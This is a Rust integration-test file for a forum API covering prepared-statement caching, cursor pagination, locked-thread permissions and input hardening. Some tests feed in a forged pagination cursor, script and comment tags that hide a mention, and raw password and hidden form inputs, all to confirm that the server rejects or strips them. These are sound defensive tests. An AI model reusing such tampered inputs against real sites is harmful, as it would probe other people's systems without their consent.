    assert_eq!(t2["participant_count"], 3, "the author, anne and bob");
    let (_, profile) = json(app.get("/api/v1/users/anne_cc").await).await;
    assert_eq!(profile["reply_count"], 5);
}

#[tokio::test]
async fn hot_reads_are_prepared_once_per_connection() {
    use diesel::prelude::*;
    use diesel::sql_types::Text;
    use palabre::discussions::view::{self, PostSelect, ThreadSelect};

    #[derive(QueryableByName)]
    struct Setting {
        #[diesel(sql_type = Text)]
        plan_cache_mode: String,
    }
    #[derive(QueryableByName)]
    struct Prepared {
        #[diesel(sql_type = Text)]
        statement: String,
    }

    let app = TestApp::spawn();
    let admin = app.admin("admin_ps").await;
    category(&app, &admin, "forets", "everyone").await;
    let t = thread(&app, &admin, "forets", "Préparé une fois", "corps").await;
    reply(&app, &admin, &t, "Une réponse", None).await;
    let thread_id: uuid::Uuid = id(&t).parse().unwrap();

    // A connection of the app's own pool, with the session settings every request gets.
    let mut conn = app.pool.get().unwrap();
    let setting: Setting = diesel::sql_query("SHOW plan_cache_mode")
        .get_result(&mut **conn)
        .unwrap();
    assert_eq!(setting.plan_cache_mode, "force_generic_plan");
    let list = ThreadSelect {
        limit: 21,
        ..Default::default()
    };
    let replies = PostSelect::Replies {
        thread: thread_id,
        after: 1,
        limit: 21,
    };
    for _ in 0..3 {
        assert_eq!(view::load_threads(&mut conn, &list, None).unwrap().len(), 1);
        assert!(
            view::load_thread(&mut conn, thread_id, None)
                .unwrap()
                .is_some()
        );
        assert_eq!(
            view::load_posts(&mut conn, &replies, None).unwrap().len(),
            1
        );
    }
    // Cached statements are named and listed; a statement diesel refuses to cache (any `sql()`
    // literal in it) runs as the unnamed one and is not.
    let prepared: Vec<Prepared> = diesel::sql_query("SELECT statement FROM pg_prepared_statements")
        .load(&mut **conn)
        .unwrap();
    let count = |needle: &str| {
        prepared
            .iter()
            .filter(|p| p.statement.contains(needle))
            .count()
    };
    assert_eq!(
        count(r#""threads" INNER JOIN "categories""#),
        2,
        "the list and the single thread, each prepared once"
    );
    assert_eq!(
        count(r#"FROM ("posts" INNER JOIN "users""#),
        1,
        "the replies page"
    );
}

/// Walks a list page by page with `limit`, returning every item's `field` in order.
async fn walk(app: &TestApp, path: &str, limit: usize, field: &str) -> Vec<String> {
    let mut seen = Vec::new();
    let mut cursor: Option<String> = None;
    loop {
        let sep = if path.contains('?') { '&' } else { '?' };
        let url = match &cursor {
            Some(c) => format!("{path}{sep}limit={limit}&cursor={c}"),
            None => format!("{path}{sep}limit={limit}"),
        };
        let (status, page) = json(app.get(&url).await).await;
        assert_eq!(status, 200, "{page}");
        let items = page["items"].as_array().unwrap();
        assert!(items.len() <= limit);
        seen.extend(items.iter().map(|i| i[field].as_str().unwrap().to_string()));
        match page["next_cursor"].as_str() {
            Some(c) => cursor = Some(c.to_string()),
            None => return seen,
        }
        assert!(seen.len() < 1000, "the walk never ends");
    }
}

/// `GET /categories`, `/tags` and `/posts/{id}/revisions` answer `{items, next_cursor}` like every
/// other list, page with `limit` and `cursor`, and refuse a cursor that does not decode (issue 11).
#[tokio::test]
async fn categories_tags_and_revisions_are_pages_like_every_list() {
    let app = TestApp::spawn();
    let admin = app.admin("admin_pages").await;
    for (slug, name) in [
        ("zeta", "Zêta"),
        ("alpha", "Alpha"),
        ("beta", "bêta"),
        ("gamma", "Gamma"),
    ] {
        category_named(&app, &admin, slug, name, "everyone").await;
        tag(&app, &admin, &format!("t-{slug}")).await;
    }
    let (_, whole) = json(app.get("/api/v1/categories?limit=100").await).await;
    let whole: Vec<String> = whole["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["slug"].as_str().unwrap().to_string())
        .collect();
    assert!(whole.len() >= 5, "{whole:?}");
    assert_eq!(walk(&app, "/api/v1/categories", 2, "slug").await, whole);
    assert_eq!(
        walk(&app, "/api/v1/tags", 3, "slug").await,
        ["t-alpha", "t-beta", "t-gamma", "t-zeta"]
    );

    let t = thread(&app, &admin, "alpha", "Une page d'historique", "Version 1").await;
    let post_path = format!("/api/v1/posts/{}", id(&t["opening_post"]));
    for v in 2..=4 {
        let resp = app
            .authed(Method::PATCH, &post_path, &admin)
            .json(&json!({ "body": format!("Version {v}") }))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 200);
    }
    let revisions = format!("{post_path}/revisions");
    let mut bodies = Vec::new();
    let mut cursor = String::new();
    loop {
        let (_, page) = json(
            app.get(&format!("{revisions}?limit=2&cursor={cursor}"))
                .await,
        )
        .await;
        for r in page["items"].as_array().unwrap() {
            bodies.push(r["previous_body"].as_str().unwrap().to_string());
        }
        match page["next_cursor"].as_str() {
            Some(c) => cursor = c.to_string(),
            None => break,
        }
    }
    assert_eq!(bodies, ["Version 1", "Version 2", "Version 3"]);

    for list in ["/api/v1/categories", "/api/v1/tags", revisions.as_str()] {
        let p = problem(app.get(&format!("{list}?cursor=not-a-cursor")).await, 422).await;
        assert_eq!(p["errors"][0]["field"], "cursor", "{list}");
        let p = problem(app.get(&format!("{list}?limit=0")).await, 422).await;
        assert_eq!(p["errors"][0]["field"], "limit", "{list}");
    }
}

/// Locked means no change by members: no reply, edit, deletion, reaction, retitling or accepted
/// answer; staff still act (issue 11).
#[tokio::test]
async fn a_locked_thread_takes_no_change_by_members() {
    use crate::support::fixtures::{Role, World};
    let w = World::new().await;
    let app = &w.app;
    let thread_id = id(&w.thread).to_string();
    let opening = format!("/api/v1/posts/{}", id(&w.thread["opening_post"]));
    let other_reply = reply(
        app,
        &w.other,
        &w.thread,
        "Une réponse avant le verrou.",
        None,
    )
    .await;
    let other_post = format!("/api/v1/posts/{}", id(&other_reply));
    let like = format!("{other_post}/reactions/like");
    assert_eq!(
        w.request(Role::Author, Method::PUT, &like)
            .send()
            .await
            .unwrap()
            .status(),
        200
    );
    {
        use diesel::prelude::*;
        diesel::sql_query(format!(
            "UPDATE threads SET locked = true, kind = 'question' WHERE id = '{thread_id}'"
        ))
        .execute(&mut app.conn())
        .unwrap();
    }
    let thread_path = format!("/api/v1/threads/{thread_id}");
    let accept = format!("{thread_path}/accepted-answer");
    let posts = format!("{thread_path}/posts");
    let tries: Vec<(Role, Method, String, Option<Value>)> = vec![
        (
            Role::Author,
            Method::PATCH,
            opening.clone(),
            Some(json!({"body": "Changé après coup"})),
        ),
        (Role::Author, Method::DELETE, opening.clone(), None),
        (
            Role::Author,
            Method::PATCH,
            thread_path.clone(),
            Some(json!({"title": "Un autre titre"})),
        ),
        (
            Role::Author,
            Method::POST,
            accept.clone(),
            Some(json!({"post_id": id(&other_reply)})),
        ),
        (Role::Author, Method::DELETE, like.clone(), None),
        (
            Role::Other,
            Method::PATCH,
            other_post.clone(),
            Some(json!({"body": "Changé"})),
        ),
        (Role::Other, Method::DELETE, other_post.clone(), None),
        (
            Role::Other,
            Method::PUT,
            format!("{opening}/reactions/thanks"),
            None,
        ),
        (
            Role::Other,
            Method::POST,
            posts.clone(),
            Some(json!({"body": "Encore un mot"})),
        ),
    ];
    for (role, method, path, body) in &tries {
        let mut req = w.request(*role, method.clone(), path);
        if let Some(b) = body {
            req = req.json(b);
        }
        let p = problem(req.send().await.unwrap(), 403).await;
        assert!(
            p["detail"].as_str().unwrap().contains("locked"),
            "{method} {path}: {p}"
        );
    }
    // Nothing changed.
    let (_, t) = json(app.get(&thread_path).await).await;
    assert_eq!(t["title"], "Le fil de référence");
    assert_eq!(
        t["opening_post"]["body"],
        "Un premier message pour tout le monde."
    );
    assert_eq!(t["reply_count"], 1);
    assert!(t["accepted_answer"].is_null());
    let (_, p) = json(app.get(&other_post).await).await;
    assert_eq!(p["reactions"]["like"], 1);
    // Staff still act.
    for role in [Role::Moderator, Role::Admin] {
        let resp = w
            .request(role, Method::PATCH, &other_post)
            .json(&json!({"body": "Reformulé par la modération"}))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 200, "{role:?}");
    }
    let resp = w
        .request(Role::Moderator, Method::POST, &accept)
        .json(&json!({"post_id": id(&other_reply)}))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
}

/// Re-encodes a real cursor with its timestamp moved to a year PostgreSQL cannot hold.
fn forge(cursor: &str) -> String {
    use base64::Engine;
    use base64::engine::general_purpose::URL_SAFE_NO_PAD;
    let text = String::from_utf8(URL_SAFE_NO_PAD.decode(cursor).unwrap()).unwrap();
    let time = regex_lite_time(&text).expect("a timestamp in the cursor");
    URL_SAFE_NO_PAD.encode(text.replace(&time, "+100000-01-01T00:00:00Z"))
}

/// The first RFC 3339 timestamp in `text` (`2026-…Z`).
fn regex_lite_time(text: &str) -> Option<String> {
    let start = text.find("\"20")? + 1;
    let end = start + text[start..].find('"')?;
    Some(text[start..end].to_string())
}

/// Forged cursors holding a time PostgreSQL cannot hold are a 422 naming the cursor, never a 500;
/// hidden text mentions nobody; raw form controls do not survive (issue 11).
#[tokio::test]
async fn forged_cursors_hidden_mentions_and_form_controls() {
    let app = TestApp::spawn();
    let admin = app.admin("admin_hard").await;
    let anne = app.member("anne_hard").await;
    let carol = app.member("carol").await;
    category(&app, &admin, "forets", "everyone").await;
    let t = thread(&app, &anne, "forets", "Premier fil", "Un message").await;
    thread(&app, &anne, "forets", "Second fil", "Un autre").await;
    // Replies to anne's post notify her at once (the watchers' fan-out is a job).
    reply(
        &app,
        &carol,
        &t,
        "Une réponse pour anne",
        Some(&t["opening_post"]),
    )
    .await;
    reply(
        &app,
        &carol,
        &t,
        "Encore une réponse",
        Some(&t["opening_post"]),
    )
    .await;

    let notifications = |tokens: Value, query: String| {
        let app = &app;
        async move {
            app.authed(
                Method::GET,
                &format!("/api/v1/notifications{query}"),
                &tokens,
            )
            .send()
            .await
            .unwrap()
        }
    };
    for list in [
        "/api/v1/threads?limit=1",
        "/api/v1/threads?limit=1&sort=active",
    ] {
        let (_, page) = json(app.get(list).await).await;
        let cursor = forge(page["next_cursor"].as_str().expect("a second page"));
        let p = problem(app.get(&format!("{list}&cursor={cursor}")).await, 422).await;
        assert_eq!(p["errors"][0]["field"], "cursor", "{list}");
    }
    let (_, page) = json(notifications(anne.clone(), "?limit=1".into()).await).await;
    let cursor = forge(page["next_cursor"].as_str().expect("a second page"));
    let p = problem(
        notifications(anne.clone(), format!("?limit=1&cursor={cursor}")).await,
        422,
    )
    .await;
    assert_eq!(p["errors"][0]["field"], "cursor");

    // Mentions come from the visible text only.
    let mentions = |tokens: Value| {
        let app = &app;
        async move {
            let (_, page) = json(
                app.authed(Method::GET, "/api/v1/notifications", &tokens)
                    .send()
                    .await
                    .unwrap(),
            )
            .await;
            page["items"]
                .as_array()
                .unwrap()
                .iter()
                .filter(|n| n["kind"] == "mention")
                .count()
        }
    };
    reply(
        &app,
        &anne,
        &t,
        "<script>@carol</script> <!-- @carol --> <style>@carol</style>",
        None,
    )
    .await;
    assert_eq!(
        mentions(carol.clone()).await,
        0,
        "nothing visible mentions carol"
    );
    reply(&app, &anne, &t, "Merci @carol !", None).await;
    assert_eq!(mentions(carol.clone()).await, 1);

    // Only the disabled checkboxes of task lists remain as form controls: raw inputs are removed.
    let post = reply(
        &app,
        &anne,
        &t,
        "<input type=\"password\" name=\"p\"> <input type=\"hidden\" value=\"x\"> <input type=\"text\">\n\n- [x] fait\n- [ ] à faire",
        None,
    )
    .await;
    let html = post["body_html"].as_str().unwrap();
    for control in ["password", "hidden", "text"] {
        assert!(
            !html.contains(&format!("type=\"{control}\"")),
            "{control}: {html}"
        );
    }
    assert_eq!(html.matches("<input").count(), 2, "{html}");
    assert_eq!(html.matches("type=\"checkbox\"").count(), 2, "{html}");
    assert_eq!(html.matches("disabled").count(), 2, "{html}");
}
